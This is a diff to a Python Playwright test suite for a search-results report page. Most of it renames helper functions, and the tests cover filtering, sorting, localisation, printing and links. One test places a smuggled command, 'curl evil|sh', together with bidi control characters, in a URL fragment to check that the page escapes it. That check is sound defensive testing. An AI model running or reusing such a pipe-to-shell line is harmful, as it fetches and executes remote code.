@@ -11,9 +11,9 @@ from typing import TYPE_CHECKING, Any
 
 import pytest
 
-from tests.support.browser import Watched, address_of, listed_queries, opened
+from tests.support.browser import RecordedPage, make_file_url, open_page, read_listed_queries
 from tests.support.cases import check_each
-from tests.support.factories import results
+from tests.support.factories import read_results
 from tests.unit.report.incomplete_run import SWAYING
 from tests.unit.report.pages import ran, write_page
 
@@ -78,14 +78,14 @@ def ask(page: Page, requests: Mapping[str, Any]) -> None:
 
 @check_each(("filters", "meets"), FILTERS)
 def test_a_filter_finds_what_results_json_holds(
-    watched: Watched, folder: Path, filters: dict[str, Any], meets: Callable[[Entry], bool]
+    watched: RecordedPage, folder: Path, filters: dict[str, Any], meets: Callable[[Entry], bool]
 ) -> None:
     from playwright.sync_api import expect
 
     page = watched.page
     ask(page, filters)
-    wanted = [entry["query_id"] for entry in results(folder)["queries"] if meets(entry)]
-    assert listed_queries(page) == wanted
+    wanted = [entry["query_id"] for entry in read_results(folder)["queries"] if meets(entry)]
+    assert read_listed_queries(page) == wanted
     expect(page.locator(".count")).to_contain_text(
         f"{len(wanted)} of 64 queries" if len(wanted) < 64 else "64 queries"
     )
@@ -93,20 +93,20 @@ def test_a_filter_finds_what_results_json_holds(
     expect(page).to_have_url(re.compile("#"))
     address = page.url
     page.locator(".toolbar [type=reset]").click()
-    assert len(listed_queries(page)) == 64
+    assert len(read_listed_queries(page)) == 64
     with page.context.new_page() as other:
         other.goto(address)
-        assert listed_queries(other) == wanted
+        assert read_listed_queries(other) == wanted
 
 
 def test_an_answer_that_is_missing_can_be_found(browser: Browser, demo: Path) -> None:
     from playwright.sync_api import expect
 
-    with opened(browser, address_of(demo), locale="en-US") as result:
+    with open_page(browser, make_file_url(demo), locale="en-US") as result:
         ask(result.page, {"nothing": True})
-        assert listed_queries(result.page) == ["zh-04", "en-04"]
+        assert read_listed_queries(result.page) == ["zh-04", "en-04"]
         ask(result.page, {"engine": "compass"})
-        assert listed_queries(result.page) == ["en-04"]
+        assert read_listed_queries(result.page) == ["en-04"]
         result.page.locator("button.open").click()
         expect(result.page.locator("section.engine .trouble")).to_have_text(
             "error: HTTP 503 Service Unavailable"
@@ -124,15 +124,15 @@ def test_an_answer_that_is_missing_can_be_found(browser: Browser, demo: Path) ->
     ],
 )
 def test_queries_are_sorted_by_what_is_to_be_seen_first(
-    watched: Watched, folder: Path, order: str, key: Callable[[Entry], float]
+    watched: RecordedPage, folder: Path, order: str, key: Callable[[Entry], float]
 ) -> None:
     ask(watched.page, {"sort": order})
-    values = {entry["query_id"]: round(key(entry), 3) for entry in results(folder)["queries"]}
-    known = [values[each] for each in listed_queries(watched.page)]
+    values = {entry["query_id"]: round(key(entry), 3) for entry in read_results(folder)["queries"]}
+    known = [values[each] for each in read_listed_queries(watched.page)]
     assert all(one <= other + 0.002 for one, other in pairwise(known))
 
 
-def test_lines_are_drawn_as_they_are_needed(watched: Watched) -> None:
+def test_lines_are_drawn_as_they_are_needed(watched: RecordedPage) -> None:
     from playwright.sync_api import expect
 
     page = watched.page
@@ -143,9 +143,9 @@ def test_lines_are_drawn_as_they_are_needed(watched: Watched) -> None:
 
 
 @pytest.fixture
-def chinese(browser: Browser, report: Path) -> Iterator[Watched]:
+def chinese(browser: Browser, report: Path) -> Iterator[RecordedPage]:
     """The page in Chinese."""
-    with opened(browser, address_of(report), locale="zh-CN") as result:
+    with open_page(browser, make_file_url(report), locale="zh-CN") as result:
         yield result
 
 
@@ -158,20 +158,20 @@ def chinese(browser: Browser, report: Path) -> Iterator[Watched]:
     ],
 )  # fmt: skip
 def test_what_an_address_asks_for_and_is_not_there_is_ignored(
-    chinese: Watched, report: Path, fragment: str
+    chinese: RecordedPage, report: Path, fragment: str
 ) -> None:
     from playwright.sync_api import expect
 
     page = chinese.page
     page.goto("about:blank")  # another fragment alone loads nothing
-    page.goto(f"{address_of(report)}#{fragment}")
-    assert listed_queries(page) == [f"q{number}" for number in range(64)]
+    page.goto(f"{make_file_url(report)}#{fragment}")
+    assert read_listed_queries(page) == [f"q{number}" for number in range(64)]
     expect(page.locator(".count")).to_have_text("共 64 条查询")
     assert page.locator("select").evaluate_all("all => all.map((each) => each.value).join('')") == ""
-    assert chinese.complaints == []
+    assert chinese.console_errors == []
 
 
-def test_an_address_holds_an_engine_by_its_name(watched: Watched) -> None:
+def test_an_address_holds_an_engine_by_its_name(watched: RecordedPage) -> None:
     from playwright.sync_api import expect
 
     ask(watched.page, {"engine": "Cyd", "grade": "0"})
@@ -181,20 +181,20 @@ def test_an_address_holds_an_engine_by_its_name(watched: Watched) -> None:
 def test_a_query_that_is_not_there_is_named_with_nothing_hidden_and_in_no_command(
     browser: Browser, report: Path
 ) -> None:
-    address = f"{address_of(report)}#q=x;curl+evil|sh%0A%E2%80%AE%E2%81%A9"
-    with opened(browser, address, locale="en-US") as result:
+    address = f"{make_file_url(report)}#q=x;curl+evil|sh%0A%E2%80%AE%E2%81%A9"
+    with open_page(browser, address, locale="en-US") as result:
         text = result.page.locator(".count").text_content() or ""
         assert "Query \u2068x;curl evil|sh\\x0a\\x202e\\x2069\u2069 is not on this page" in text
         assert "--query" not in text
 
 
-def test_it_prints_every_query_that_is_found(watched: Watched) -> None:
+def test_it_prints_every_query_that_is_found(watched: RecordedPage) -> None:
     from playwright.sync_api import expect
 
     page = watched.page
     assert page.locator("li.query").count() == 60
     page.evaluate("dispatchEvent(new Event('beforeprint'))")
-    assert page.locator("li.query").count() == len(listed_queries(page)) == 64
+    assert page.locator("li.query").count() == len(read_listed_queries(page)) == 64
     assert page.locator("li.more").count() == 0
     page.evaluate("location.hash = '#q=q62'")
     expect(page.locator("li.more.earlier")).to_have_count(1)
@@ -212,7 +212,7 @@ def test_links_lead_where_the_engine_pointed_and_no_address_is_none(browser: Bro
     }
     rows = [{**shown, "engine": engine, "rank": 1, "url": url} for engine, url in addresses.items()]
     path = write_page(tmp_path, ran(tmp_path / "run", rows))
-    with opened(browser, f"{address_of(path)}#q=q", locale="en-US") as result:
+    with open_page(browser, f"{make_file_url(path)}#q=q", locale="en-US") as result:
         links = {
             engine: result.page.get_by_role("article", name=f"{engine}, rank 1").locator(".where")
             for engine in addresses
